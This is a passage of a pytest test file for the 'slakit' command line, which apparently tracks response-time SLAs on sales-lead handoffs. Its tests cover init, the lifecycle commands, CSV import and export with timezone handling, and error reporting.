"""The `slakit` command line, through its real entry point."""

from __future__ import annotations

import csv
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result

import slakit
import slakit.errors
from slakit.cli import cli

T0 = "2026-11-23T14:00:00+00:00"  # Monday 09:00 in New York


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A directory with the `slakit init` config and database, as the working directory."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SLAKIT_CONFIG", raising=False)
    result = CliRunner().invoke(cli, ["init"])
    assert result.exit_code == 0, result.output
    return tmp_path


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def one_line_error(result: Result, code: int = 2) -> str:
    assert result.exit_code == code, result.output
    lines = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("Error: ")
    assert "Traceback" not in result.output
    return lines[0]


def count_rows(project: Path, table: str = "handoffs") -> int:
    with sqlite3.connect(project / "slakit.db") as con:
        (n,) = con.execute(f"SELECT count(*) FROM {table}").fetchone()
    return int(n)


class TestBasics:
    def test_version(self) -> None:
        """--version prints the package version."""
        result = run("--version")
        assert result.exit_code == 0
        assert slakit.__version__ in result.output

    def test_help_lists_every_command(self) -> None:
        """The top-level help lists the whole command set."""
        out = run("--help").output
        for name in (
            "init",
            "start",
            "respond",
            "complete",
            "cancel",
            "pause",
            "resume",
            "tag",
            "show",
            "check",
            "deliver",
            "run",
            "import",
            "export",
            "demo",
            "calendar",
            "report",
            "review",
            "runbook",
            "preflight",
            "simulate",
        ):
            assert f"  {name} " in out or f"  {name}\n" in out, name

    def test_unknown_command_is_one_line_exit_2(self) -> None:
        """A typo'd command is a one-line usage error."""
        one_line_error(CliRunner().invoke(cli, ["strat"]))

    def test_init_writes_a_config_that_passes_preflight(self, project: Path) -> None:
        """`slakit init` writes slakit.toml and the database; preflight finds no gaps."""
        assert (project / "slakit.toml").is_file()
        assert (project / "slakit.db").is_file()
        result = run("preflight")
        assert result.exit_code == 0, result.output
        config = tomllib.loads((project / "slakit.toml").read_text())
        zone = config["calendars"]["sales-east"]["timezone"]
        assert config["review"]["timezone"] == zone  # weeks cut where the team works

    def test_init_refuses_to_overwrite(self, project: Path) -> None:
        """A second init without --force changes nothing and exits 2."""
        before = (project / "slakit.toml").read_text()
        one_line_error(CliRunner().invoke(cli, ["init"]))
        assert (project / "slakit.toml").read_text() == before

    @pytest.mark.parametrize("db", ['a"b.db', "C:\\x.db", "lead's.db"])
    def test_init_quotes_the_database_name(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, db: str
    ) -> None:
        """Quotes and backslashes in --db give a valid config for that very file."""
        monkeypatch.chdir(tmp_path)
        assert run("init", "q", "--db", db).exit_code == 0
        assert (tmp_path / "q" / db).is_file()
        assert run("status", "--config", "q/slakit.toml").exit_code == 0

    @pytest.mark.parametrize("db", ["", "a\nb", "missing/dir/x.db"])
    def test_init_that_fails_leaves_nothing(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, db: str
    ) -> None:
        monkeypatch.chdir(tmp_path)
        result = CliRunner().invoke(cli, ["init", "q", "--db", db])
        assert result.exit_code in (1, 2)
        assert result.stderr.startswith("Error: ")
        assert not (tmp_path / "q").exists()

    def test_init_writes_through_no_link_left_in_its_way(self, tmp_path: Path) -> None:
        """A link planted at init's trial file name (a shared folder) is not followed:
        the file it points to stays as it was, and init stops with one line."""
        victim = tmp_path / "victim.txt"
        victim.write_text("keep me\n")
        target = tmp_path / "proj"
        target.mkdir()
        (target / f".slakit.toml.{os.getpid()}.tmp").symlink_to(victim)
        result = CliRunner().invoke(cli, ["init", str(target)])
        assert "is in the way" in one_line_error(result)
        assert victim.read_text() == "keep me\n"
        assert not (target / "slakit.toml").exists()

    def test_a_closed_pipe_ends_quietly(self, project: Path) -> None:
        """`slakit export | head -1`: no error message, exit 141 as after SIGPIPE."""
        rows = ["id,started_at"] + [f"L{i},{T0}" for i in range(5000)]
        (project / "many.csv").write_text("\n".join(rows) + "\n")
        assert run("import", "many.csv", "--policy", "speed-to-lead").exit_code == 0
        probe = subprocess.run(
            [
                "/bin/bash",
                "-c",
                f"{sys.executable} -m slakit.cli export | head -1; "
                'echo "exit ${PIPESTATUS[0]}" >&2',
            ],
            capture_output=True,
            text=True,
        )
        assert probe.stdout.startswith("{")
        assert probe.stderr == "exit 141\n"

    def test_a_repeated_event_says_nothing_changed(self, project: Path) -> None:
        """A second pause (another time) or a resume of a running clock exits 0 with a
        note on stderr, so a script can see that its time was not recorded."""
        run("start", "P", "--policy", "speed-to-lead", "--started-at", T0)
        first = CliRunner().invoke(cli, ["pause", "P", "--at", "2026-11-23T14:05:00Z"])
        assert first.exit_code == 0
        assert first.stderr == ""
        again = CliRunner().invoke(cli, ["pause", "P", "--at", "2026-11-23T14:06:00Z"])
        assert again.exit_code == 0
        assert again.stderr == "note: P: nothing changed, it is already paused\n"
        run("resume", "P", "--at", "2026-11-23T14:07:00Z")
        resumed = CliRunner().invoke(cli, ["resume", "P"])
        assert resumed.stderr == "note: P: nothing changed, it is not paused\n"

    @pytest.mark.parametrize(
        "command", [["report"], ["export"], ["traces"], ["simulate", "--policy", "speed-to-lead"]]
    )
    def test_a_reversed_window_is_a_usage_error(self, project: Path, command: list[str]) -> None:
        args = [*command, "--since", "2026-12-01T00:00:00Z", "--until", "2026-11-01T00:00:00Z"]
        assert "is before --since" in one_line_error(CliRunner().invoke(cli, args))

    def test_demo_checks_keep_before_printing(self, tmp_path: Path) -> None:
        (tmp_path / "file").write_text("x")
        for keep in (tmp_path / "file" / "sub", tmp_path / "file"):
            result = CliRunner().invoke(cli, ["demo", "--keep", str(keep)])
            assert result.exit_code == 2
            assert result.stdout == ""

    def test_an_attr_named_like_an_option_is_an_attribute(self, project: Path) -> None:
        result = run(
            "start",
            "A",
            "--policy",
            "speed-to-lead",
            "--owner",
            "ann",
            "--attr",
            "owner=crm-17",
            "--attr",
            "attributes=x",
            "--json",
        )
        assert result.exit_code == 0, result.output
        shown = json.loads(result.stdout)
        assert shown["owner"] == "ann"
        assert shown["attributes"] == {"owner": "crm-17", "attributes": "x"}

    @pytest.mark.parametrize("table", ["review", "import"])
    def test_an_unknown_key_in_a_command_table_fails_every_command(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, table: str
    ) -> None:
        """Found when the config is read, before any database is made."""
        monkeypatch.chdir(tmp_path)
        (tmp_path / "slakit.toml").write_text(
            f'[store]\nadapter = "sqlite"\npath = "s.db"\n[{table}]\nbogus = 1\n'
            "[policies.p]\nsla_minutes = 30\n"
        )
        line = one_line_error(CliRunner().invoke(cli, ["status"]))
        assert f"[{table}]: unknown key 'bogus'" in line
        assert not (tmp_path / "s.db").exists()

    def test_check_json_exits_1_when_a_step_failed(self, project: Path) -> None:
        """A record whose policy is gone is an error in --json mode too, not exit 0."""
        run("start", "M1", "--policy", "post-meeting-follow-up", "--started-at", T0)
        config = (project / "slakit.toml").read_text()
        cut = (
            config[: config.index("# Every meeting gets")]
            + config[config.index("# Why breaches") :]
        )
        (project / "slakit.toml").write_text(cut)
        result = CliRunner().invoke(cli, ["check", "--now", "2026-11-25T00:00:00Z", "--json"])
        assert result.exit_code == 1
        data = json.loads(result.stdout)
        assert "unknown policy 'post-meeting-follow-up'" in data["errors"][0]

    def test_non_finite_numbers_are_usage_errors(self, project: Path) -> None:
        for args in (["status", "--max-lag", "nan"], ["run", "--once", "--interval", "inf"]):
            assert "not a finite number" in one_line_error(CliRunner().invoke(cli, args))


class TestEvents:
    def test_lifecycle_through_the_cli(self, project: Path) -> None:
        """start, check, deliver, respond and show work end to end on SQLite."""
        out = run(
            "start",
            "L-1",
            "--policy",
            "speed-to-lead",
            "--owner",
            "alice",
            "--started-at",
            T0,
            "--attr",
            "email=a@example.com",
            "--json",
        )
        assert out.exit_code == 0, out.output
        h = json.loads(out.output)
        assert h["deadline_at"] == "2026-11-23T14:30:00+00:00"
        assert h["attributes"] == {"email": "a@example.com"}
        checked = run("check", "--now", "2026-11-23T14:30:00Z", "--json")
        assert json.loads(checked.output)["applied"][0]["step"] == "1x"
        delivered = run("deliver", "--now", "2026-11-23T14:30:00Z")
        assert "→ alice:" in delivered.output
        assert "1 sent" in delivered.output
        assert run("respond", "L-1", "--at", "2026-11-23T14:40:00Z", "--by", "alice").exit_code == 0
        shown = json.loads(run("show", "L-1", "--json").output)
        assert shown["handoff"]["status"] == "stopped"
        assert [t["rule"] for t in shown["trace"]][:2] == ["start", "step:1x"]
        assert shown["outbox"][0]["state"] == "sent"
        human = run("show", "L-1").output
        assert "step:1x" in human
        # The record, then its escalations and outbox rows, then the trace.
        titles = [ln.strip() for ln in human.splitlines()]
        sections = [titles.index(title) for title in ("escalations", "outbox", "trace")]
        assert sections == sorted(sections)
        assert "L-1:0:notify:owner:alice" in human

    def test_pause_resume_cancel_complete_tag(self, project: Path) -> None:
        """Every event command changes the record and prints it."""
        run("start", "L-2", "--policy", "speed-to-lead", "--owner", "a", "--started-at", T0)
        assert "paused" in run("pause", "L-2", "--at", "2026-11-23T14:05:00Z").output
        assert "open" in run("resume", "L-2", "--at", "2026-11-23T14:15:00Z").output
        assert "stopped" in run("complete", "L-2", "--at", "2026-11-23T15:00:00Z").output
        tagged = json.loads(run("tag", "L-2", "routing_error", "--json").output)
        assert tagged["breach_reason"] == "routing_error"
        run("start", "L-3", "--policy", "speed-to-lead", "--owner", "a", "--started-at", T0)
        assert "cancelled" in run("cancel", "L-3", "--reason", "spam").output

    def test_simulate_replays_a_response_dated_before_a_recorded_pause(self, project: Path) -> None:
        """Paused at 10:40, then answered at 10:19: the engine takes it (met, nothing
        paused), and the what-if replay takes the record as the engine did."""
        run(
            "start",
            "U1",
            "--policy",
            "speed-to-lead",
            "--owner",
            "alice",
            "--started-at",
            "2026-11-19T10:00:00-05:00",
        )
        run("pause", "U1", "--at", "2026-11-19T10:40:00-05:00")
        assert "stopped" in run("respond", "U1", "--at", "2026-11-19T10:19:00-05:00").output
        now = "2026-11-20T12:00:00Z"
        result = run(
            "simulate", "--policy", "speed-to-lead", "--sla-minutes", "30", "--now", now, "--json"
        )
        assert result.exit_code == 0, result.output
        data = json.loads(result.output)
        assert data["handoffs"] == 1
        assert data["skipped"] == []
        assert data["predicted"]["met"] == data["actual"]["met"] == 1
        table = run("simulate", "--policy", "speed-to-lead", "--now", now)
        assert table.exit_code == 0, table.output
        assert "skipped" not in table.output

    def test_missing_config(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        """Without a config file, commands say so on one line and exit 2."""
        monkeypatch.chdir(tmp_path)
        monkeypatch.delenv("SLAKIT_CONFIG", raising=False)
        line = one_line_error(CliRunner().invoke(cli, ["check"]))
        assert "slakit.toml" in line
        assert "slakit init" in line

    def test_config_from_environment(self, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        """SLAKIT_CONFIG points commands at a config elsewhere."""
        other = project / "elsewhere"
        other.mkdir()
        monkeypatch.chdir(other)
        monkeypatch.setenv("SLAKIT_CONFIG", str(project / "slakit.toml"))
        assert run("check").exit_code == 0

    def test_unknown_policy_writes_nothing(self, project: Path) -> None:
        """An unknown policy is a one-line error naming it, and writes nothing."""
        line = one_line_error(
            CliRunner().invoke(cli, ["start", "L-9", "--policy", "nope", "--owner", "a"])
        )
        assert "'nope'" in line
        assert count_rows(project) == 0

    def test_naive_timestamp_is_rejected(self, project: Path) -> None:
        """A timestamp without an offset is a one-line error, and writes nothing."""
        line = one_line_error(
            CliRunner().invoke(
                cli,
                ["start", "L-9", "--policy", "speed-to-lead", "--started-at", "2026-11-23T09:00"],
            )
        )
        assert "2026-11-23T09:00" in line
        assert count_rows(project) == 0

    def test_unknown_handoff(self, project: Path) -> None:
        """Events on an unknown id are one-line errors naming the id."""
        for cmd in ("respond", "complete", "cancel", "pause", "resume", "show"):
            line = one_line_error(CliRunner().invoke(cli, [cmd, "ghost"]))
            assert "'ghost'" in line
        assert count_rows(project, "traces") == 0

    def test_bad_sla(self, project: Path) -> None:
        """A non-positive SLA is a one-line error naming sla_minutes."""
        line = one_line_error(
            CliRunner().invoke(
                cli, ["start", "L", "--policy", "speed-to-lead", "--sla-minutes", "-5"]
            )
        )
        assert "sla_minutes" in line

    def test_debug_shows_traceback(self, project: Path) -> None:
        """--debug lets the exception through."""
        result = CliRunner().invoke(cli, ["--debug", "respond", "ghost"])
        assert isinstance(result.exception, slakit.SlakitError)


CSV_OK = """id,owner,channel,started_at,first_response_at,company
A1,alice,web,2026-11-23T14:00:00+00:00,2026-11-23T14:10:00+00:00,Acme
A2,bob,chat,2026-11-23T15:00:00+00:00,,Globex
A3,carol,web,2026-11-23T16:00:00+00:00,2026-11-23T18:00:00+00:00,Initech
"""

CSV_BAD = """id,owner,started_at,sla_minutes
B1,alice,2026-11-23T14:00:00+00:00,30
B2,bob,2026-11-23T15:00:00,30
B3,carol,2026-11-23T16:00:00+00:00,-1
B4,dan,2026-11-23T16:00:00+00:00,45
"""


class TestImportExport:
    def test_import_backfills_history(self, project: Path) -> None:
        """A CSV export becomes handoffs with their history; extra columns are attributes."""
        (project / "leads.csv").write_text(CSV_OK)
        result = run("import", "leads.csv", "--policy", "speed-to-lead", "--json")
        assert result.exit_code == 0, result.output
        assert json.loads(result.output)["imported"] == 3
        a1 = json.loads(run("show", "A1", "--json").output)["handoff"]
        assert a1["status"] == "stopped"
        assert a1["attributes"] == {"company": "Acme"}
        assert a1["channel"] == "web"

    def test_malformed_rows_are_reported_by_line_and_nothing_is_written(
        self, project: Path
    ) -> None:
        """Any invalid row: each reported with its line number, exit 2, no row written."""
        (project / "bad.csv").write_text(CSV_BAD)
        result = CliRunner().invoke(cli, ["import", "bad.csv", "--policy", "speed-to-lead"])
        assert result.exit_code == 2
        errors = result.stderr.splitlines()
        assert any(e.startswith("Error: bad.csv:3: ") and "started_at" in e for e in errors)
        assert any(e.startswith("Error: bad.csv:4: ") and "sla_minutes" in e for e in errors)
        assert count_rows(project) == 0

    def test_skip_invalid_keeps_valid_rows(self, project: Path) -> None:
        """--skip-invalid imports the valid rows, reports the others, exits 1."""
        (project / "bad.csv").write_text(CSV_BAD)
        result = CliRunner().invoke(
            cli, ["import", "bad.csv", "--policy", "speed-to-lead", "--skip-invalid"]
        )
        assert result.exit_code == 1
        assert "imported 2" in result.stdout
        assert count_rows(project) == 2

    def test_a_stored_id_with_other_content_writes_nothing(self, project: Path) -> None:
        """A row whose id is stored under another start is invalid, found before any write."""
        (project / "leads.csv").write_text(CSV_OK)
        assert run("import", "leads.csv", "--policy", "speed-to-lead").exit_code == 0
        traces = count_rows(project, "traces")
        rows = ["id,owner,started_at"]
        rows += [f"N{i},alice,2026-11-23T14:00:00Z" for i in range(5)]
        rows.append("A2,mallory,2026-11-23T14:00:00Z")  # last, after five batches of one
        (project / "more.csv").write_text("\n".join(rows) + "\n")
        args = ["import", "more.csv", "--policy", "speed-to-lead", "--batch-size", "1"]
        result = CliRunner().invoke(cli, args)
        assert result.exit_code == 2
        assert result.stderr.splitlines()[0].startswith(
            "Error: more.csv:7: handoff id 'A2' already exists with different content (owner: "
        )
        assert count_rows(project) == 3  # none of N0..N4 either
        assert count_rows(project, "traces") == traces

    def test_importing_a_file_again_skips_its_rows(self, project: Path) -> None:
        """Rows stored by an earlier import of the same file are counted, not written twice."""
        (project / "leads.csv").write_text(CSV_OK)
        assert run("import", "leads.csv", "--policy", "speed-to-lead").exit_code == 0
        traces = count_rows(project, "traces")
        again = run("import", "leads.csv", "--policy", "speed-to-lead")
        assert again.exit_code == 0, again.output
        assert "imported 0 handoff(s) from leads.csv; 3 already present" in again.output
        assert count_rows(project) == 3
        assert count_rows(project, "traces") == traces

    def test_importing_again_after_a_reassignment_skips_its_rows(self, project: Path) -> None:
        """A row whose record a step reassigned since is still the same start."""
        rows = "id,owner,backup_owner,started_at\nR1,alice,bob,2026-11-23T14:00:00Z\n"
        (project / "leads.csv").write_text(rows)
        assert run("import", "leads.csv", "--policy", "speed-to-lead").exit_code == 0
        assert run("check", "--now", "2026-11-25T12:00:00Z").exit_code == 0
        shown = json.loads(run("show", "R1", "--json").stdout)
        assert (shown["handoff"]["owner"], shown["handoff"]["backup_owner"]) == ("bob", "alice")
        again = run("import", "leads.csv", "--policy", "speed-to-lead")
        assert again.exit_code == 0, again.output
        assert "imported 0 handoff(s) from leads.csv; 1 already present" in again.output
        (project / "other.csv").write_text(rows.replace("alice,bob", "carol,bob"))
        other = CliRunner().invoke(cli, ["import", "other.csv", "--policy", "speed-to-lead"])
        assert other.exit_code == 2
        assert "(owner: stored 'alice', given 'carol')" in other.stderr

    def test_a_csv_export_imports_back(self, project: Path) -> None:
        """`export --format csv` output is an import file: attributes come back as they
        were, derived columns are left out (not kept as attributes), with a note."""
        run(
            "start",
            "A1",
            "--policy",
            "speed-to-lead",
            "--owner",
            "alice",
            "--attr",
            "src=web",
            "--started-at",
            T0,
        )
        run("respond", "A1", "--at", "2026-11-23T14:10:00Z")
        run("start", "C1", "--policy", "speed-to-lead", "--started-at", T0)
        run("cancel", "C1", "--reason", "spam", "--at", "2026-11-23T14:05:00Z")
        assert run("export", "--format", "csv", "-o", "out.csv").exit_code == 0
        before = {h["id"]: h for h in map(json.loads, run("export").stdout.splitlines())}
        fresh = project / "fresh"
        fresh.mkdir()
        assert run("init", str(fresh)).exit_code == 0
        config = str(fresh / "slakit.toml")
        result = CliRunner().invoke(cli, ["import", "out.csv", "--config", config])
        assert result.exit_code == 0, result.output
        assert "is a slakit export" in result.stderr
        after = {
            h["id"]: h
            for h in map(json.loads, run("export", "--config", config).stdout.splitlines())
        }
        keep = (
            "policy",
            "owner",
            "started_at",
            "first_response_at",
            "cancelled_at",
            "cancel_reason",
            "attributes",
            "status",
            "trace_id",
        )
        for hid in ("A1", "C1"):
            assert {k: after[hid][k] for k in keep} == {k: before[hid][k] for k in keep}
        # Imported again into the store it came from, every row is already present.
        again = run("import", "out.csv")
        assert "imported 0 handoff(s) from out.csv; 2 already present" in again.output
        assert "had pauses" not in result.stderr

    def test_an_export_with_paused_records_says_their_pauses_are_dropped(
        self, project: Path
    ) -> None:
        """A paused record is judged again as if never paused: the import says so, with
        how many there are."""
        run("start", "P1", "--policy", "speed-to-lead", "--owner", "al", "--started-at", T0)
        run("pause", "P1", "--at", "2026-11-23T14:20:00Z")
        run("resume", "P1", "--at", "2026-11-23T15:20:00Z")
        run("respond", "P1", "--at", "2026-11-23T15:25:00Z")  # met: an hour was paused
        run("start", "P2", "--policy", "speed-to-lead", "--owner", "al", "--started-at", T0)
        run("respond", "P2", "--at", "2026-11-23T14:05:00Z")
        assert run("export", "--format", "csv", "-o", "out.csv").exit_code == 0
        fresh = project / "fresh"
        assert run("init", str(fresh)).exit_code == 0
        config = str(fresh / "slakit.toml")
        result = CliRunner().invoke(cli, ["import", "out.csv", "--config", config])
        assert result.exit_code == 0, result.output
        assert "note: 1 of the records imported had pauses" in result.stderr
        assert "(e.g. 'P1')" in result.stderr

    def test_an_attributes_column_must_hold_a_json_object(self, project: Path) -> None:
        (project / "a.csv").write_text('id,started_at,attributes\nX,2026-11-23T14:00:00Z,"[1]"\n')
        result = CliRunner().invoke(cli, ["import", "a.csv", "--policy", "speed-to-lead"])
        assert result.exit_code == 2
        assert "a.csv:2: attributes must be a JSON object" in result.stderr

    def test_import_reads_standard_input(self, project: Path) -> None:
        """`slakit import -` reads the CSV from a pipe; messages call it <stdin>."""
        data = f"id,started_at\nS1,{T0}\nS2,not-a-time\n"
        bad = CliRunner().invoke(cli, ["import", "-", "--policy", "speed-to-lead"], input=data)
        assert bad.exit_code == 2
        assert bad.stderr.startswith("Error: <stdin>:3: started_at must be ISO-8601")
        assert count_rows(project) == 0
        good = CliRunner().invoke(
            cli, ["import", "-", "--policy", "speed-to-lead"], input=data.replace("not-a-time", T0)
        )
        assert good.exit_code == 0, good.output
        assert "imported 2 handoff(s) from <stdin>" in good.stdout
        assert count_rows(project) == 2

    def test_dry_run_validates_and_writes_nothing(self, project: Path) -> None:
        """--dry-run reports what an import would do; the store is untouched."""
        (project / "leads.csv").write_text(CSV_OK)
        result = run("import", "leads.csv", "--policy", "speed-to-lead", "--dry-run", "--json")
        assert result.exit_code == 0, result.output
        assert json.loads(result.output) == {
            "dry_run": True,
            "imported": 3,
            "already_present": 0,
            "invalid": 0,
            "errors": [],
        }
        assert count_rows(project) == 0
        (project / "bad.csv").write_text(CSV_BAD)
        bad = CliRunner().invoke(
            cli, ["import", "bad.csv", "--policy", "speed-to-lead", "--dry-run"]
        )
        assert bad.exit_code == 2
        assert "bad.csv:3" in bad.stderr
        assert count_rows(project) == 0

    def test_spreadsheet_exports_are_read_as_they_come(self, project: Path) -> None:
        """Semicolons or tabs, headers in another case or spacing, a byte-order mark."""
        (project / "eu.csv").write_text(
            "\ufeffLead ID;Owner;Started At;Company\nE1;alice;2026-11-23T14:00:00Z;Acme\n"
        )
        result = run("import", "eu.csv", "--policy", "speed-to-lead", "--map", "Lead ID=id")
        assert result.exit_code == 0, result.output
        e1 = json.loads(run("show", "E1", "--json").output)["handoff"]
        assert (e1["owner"], e1["started_at"]) == ("alice", "2026-11-23T14:00:00+00:00")
        assert e1["attributes"] == {"Company": "Acme"}
        (project / "tabs.tsv").write_text("ID\tOWNER\nT1\tbob\n")
        tabs = run("import", "tabs.tsv", "--policy", "speed-to-lead", "--delimiter", "tab")
        assert tabs.exit_code == 0, tabs.output
        assert json.loads(run("show", "T1", "--json").output)["handoff"]["owner"] == "bob"

    def test_time_format_reads_crm_timestamps(self, project: Path) -> None:
        """--time-format parses non-ISO timestamps; --tz gives them their zone."""
        (project / "sf.csv").write_text(
            "id,owner,started_at,first_response_at\nS1,al,11/23/2026 9:00 AM,11/23/2026 9:20 AM\n"
        )
        fmt = ("--time-format", "%m/%d/%Y %I:%M %p", "--tz", "America/New_York")
        result = run("import", "sf.csv", "--policy", "speed-to-lead", *fmt)
        assert result.exit_code == 0, result.output
        s1 = json.loads(run("show", "S1", "--json").output)["handoff"]
        assert s1["started_at"] == "2026-11-23T14:00:00+00:00"
        assert s1["first_response_at"] == "2026-11-23T14:20:00+00:00"
        (project / "bad.csv").write_text("id,started_at\nS2,2026-11-23T09:00\n")
        bad = CliRunner().invoke(cli, ["import", "bad.csv", "--policy", "speed-to-lead", *fmt])
        assert "bad.csv:2: started_at must be in the form '%m/%d/%Y %I:%M %p'" in bad.stderr
        nonsense = ["import", "bad.csv", "--time-format", "MM/DD"]
        assert "--time-format" in one_line_error(CliRunner().invoke(cli, nonsense))
        assert count_rows(project) == 1

    def test_a_file_without_an_id_column_is_one_error(self, project: Path) -> None:
        """No column gives the id: one line naming the columns, not one error per row."""
        (project / "crm.csv").write_text("Lead,Rep\nX1,alice\nX2,bob\n")
        err = one_line_error(CliRunner().invoke(cli, ["import", "crm.csv"]))
        assert "no column gives the handoff 'id' (columns: Lead, Rep)" in err
        assert "--map COLUMN=id" in err
        two = ["import", "crm.csv", "--map", "Lead=id", "--map", "Rep=id"]
        assert "both give 'id'" in one_line_error(CliRunner().invoke(cli, two))
        bad = ["import", "crm.csv", "--delimiter", ";;"]
        assert "--delimiter" in one_line_error(CliRunner().invoke(cli, bad))
        assert count_rows(project) == 0

    def test_a_map_naming_no_column_is_one_error(self, project: Path) -> None:
        """A mistyped --map source would leave the start time to "now": refused, naming
        the columns there are; nothing is written."""
        (project / "crm.csv").write_text("LeadID,Rep,When\nM4,alice,2026-11-02T10:00:00Z\n")
        args = ["import", "crm.csv", "--policy", "speed-to-lead", "--map", "LeadID=id"]
        err = one_line_error(CliRunner().invoke(cli, [*args, "--map", "Whenn=started_at"]))
        assert (
            "'Whenn=started_at': crm.csv has no column 'Whenn' (columns: LeadID, Rep, When)" in err
        )
        assert count_rows(project) == 0
        good = CliRunner().invoke(cli, [*args, "--map", "When=started_at", "--map", "Rep=owner"])
        assert good.exit_code == 0, good.output
        m4 = json.loads(run("show", "M4", "--json").output)["handoff"]
        assert (m4["owner"], m4["started_at"]) == ("alice", "2026-11-02T10:00:00+00:00")

    def test_notes_for_a_missing_start_column_and_a_field_name_typo(self, project: Path) -> None:
        """No start column, or a --map target one letter off a field, is said on stderr."""
        (project / "crm.csv").write_text("Lead,Rep\nX1,alice\n")
        result = CliRunner().invoke(
            cli,
            [
                "import",
                "crm.csv",
                "--policy",
                "speed-to-lead",
                "--map",
                "Lead=id",
                "--map",
                "Rep=ownr",
            ],
        )
        assert result.exit_code == 0, result.output
        assert "no column of crm.csv gives 'started_at'" in result.stderr
        assert "starts at the time of the import" in result.stderr
        assert "'ownr' is not a handoff field" in result.stderr
        assert "did you mean 'owner'?" in result.stderr
        x1 = json.loads(run("show", "X1", "--json").output)["handoff"]
        assert (x1["owner"], x1["attributes"]) == (None, {"ownr": "alice"})
        (project / "leads.csv").write_text(CSV_OK)
        ok = CliRunner().invoke(cli, ["import", "leads.csv", "--policy", "speed-to-lead"])
        assert ok.exit_code == 0, ok.output
        assert "note:" not in ok.stderr

    def test_json_lines_are_named_as_such(self, project: Path) -> None:
        """The default export format fed to import: one error saying what to do."""
        (project / "leads.csv").write_text(CSV_OK)
        assert run("import", "leads.csv", "--policy", "speed-to-lead").exit_code == 0
        assert run("export", "-o", "out.jsonl").exit_code == 0
        err = one_line_error(CliRunner().invoke(cli, ["import", "out.jsonl"]))
        assert "out.jsonl looks like JSON lines" in err
        assert "--format csv" in err

    def test_a_header_ending_in_a_delimiter_is_read(self, project: Path) -> None:
        """Some exports end the header with a delimiter: the nameless column is left
        out, not taken for a missing field in every row."""
        (project / "leads.csv").write_text(
            "id,owner,started_at,\nE1,ann,2026-11-23T14:00:00Z\nE2,bob,2026-11-23T15:00:00Z,\n"
        )
        result = CliRunner().invoke(cli, ["import", "leads.csv", "--policy", "speed-to-lead"])
        assert result.exit_code == 0, result.output
        assert count_rows(project) == 2
        assert json.loads(run("show", "E1", "--json").output)["handoff"]["attributes"] == {}

    def test_short_rows_and_repeated_ids_name_their_lines(self, project: Path) -> None:
        """A row missing fields is invalid like one with extra fields; a repeated id
        names the line it first appeared on."""
        (project / "leads.csv").write_text(
            "id,owner,started_at\n"
            "S1,dan,2026-11-23T14:00:00Z\n"
            "S2,dan\n"
            "S1,eve,2026-11-23T15:00:00Z\n"
        )
        result = CliRunner().invoke(cli, ["import", "leads.csv", "--policy", "speed-to-lead"])
        assert result.exit_code == 2
        assert "leads.csv:3: row has fewer fields than the header (no 'started_at')" in (
            result.stderr
        )
        assert "leads.csv:4: id 'S1' appears twice in the file (first on line 2)" in (result.stderr)
        assert count_rows(project) == 0

    def test_a_different_start_is_shown_in_iso_8601(self, project: Path) -> None:
        """The conflict message shows times as the file writes them, not Python reprs."""
        (project / "a.csv").write_text("id,owner,started_at\nD1,dan,2026-11-23T14:00:00Z\n")
        assert run("import", "a.csv", "--policy", "speed-to-lead").exit_code == 0
        (project / "b.csv").write_text("id,owner,started_at\nD1,dan,2026-11-23T15:00:00Z\n")
        result = CliRunner().invoke(cli, ["import", "b.csv", "--policy", "speed-to-lead"])
        assert result.exit_code == 2
        assert (
            "(started_at: stored 2026-11-23T14:00:00+00:00, given 2026-11-23T15:00:00+00:00)"
            in result.stderr
        )

    def test_tz_option_reads_naive_timestamps(self, project: Path) -> None:
        """--tz gives naive timestamps a zone."""
        (project / "naive.csv").write_text("id,owner,started_at\nN1,a,2026-11-23T09:00:00\n")
        result = run("import", "naive.csv", "--policy", "speed-to-lead", "--tz", "America/New_York")
        assert result.exit_code == 0, result.output
        h = json.loads(run("show", "N1", "--json").output)["handoff"]
        assert h["started_at"] == "2026-11-23T14:00:00+00:00"

    def test_tz_refuses_to_guess_across_a_daylight_saving_change(self, project: Path) -> None:
        """A skipped wall time is an invalid row; a repeated one is too, unless
        --ambiguous (or [import] ambiguous) picks the instant."""
        (project / "dst.csv").write_text(
            "id,owner,started_at\nG1,a,2026-03-08T02:30:00\nF1,b,2026-11-01 01:30\n"
        )
        args = ["import", "dst.csv", "--policy", "speed-to-lead", "--tz", "America/New_York"]
        refused = CliRunner().invoke(cli, args)
        assert refused.exit_code == 2
        lines = refused.stderr.splitlines()
        assert lines[0] == (
            "Error: dst.csv:2: started_at '2026-03-08T02:30:00' does not exist in "
            "America/New_York: the clocks skipped from UTC-05:00 to UTC-04:00 over it "
            "(a daylight-saving gap); give the time with its UTC offset"
        )
        assert lines[1].startswith(
            "Error: dst.csv:3: started_at '2026-11-01 01:30' happened twice in "
            "America/New_York, at UTC-04:00 and then at UTC-05:00"
        )
        assert "--ambiguous earlier|later" in lines[1]
        assert count_rows(project) == 0

        (project / "fall.csv").write_text("id,owner,started_at\nF1,b,2026-11-01 01:30\n")
        args[1] = "fall.csv"
        assert run(*args, "--ambiguous", "earlier").exit_code == 0
        f1 = json.loads(run("show", "F1", "--json").output)["handoff"]
        assert f1["started_at"] == "2026-11-01T05:30:00+00:00"
        (project / "fall.csv").write_text("id,owner,started_at\nF2,b,2026-11-01 01:30\n")
        cfg = project / "slakit.toml"
        cfg.write_text(cfg.read_text() + '\n[import]\nambiguous = "later"\n')
        assert run(*args).exit_code == 0
        f2 = json.loads(run("show", "F2", "--json").output)["handoff"]
        assert f2["started_at"] == "2026-11-01T06:30:00+00:00"
        cfg.write_text(cfg.read_text().replace('ambiguous = "later"', 'ambiguous = "guess"'))
        err = one_line_error(CliRunner().invoke(cli, args))
        assert "[import] ambiguous must be one of reject, earlier, later, got 'guess'" in err
        assert count_rows(project) == 2

    def test_column_mapping(self, project: Path) -> None:
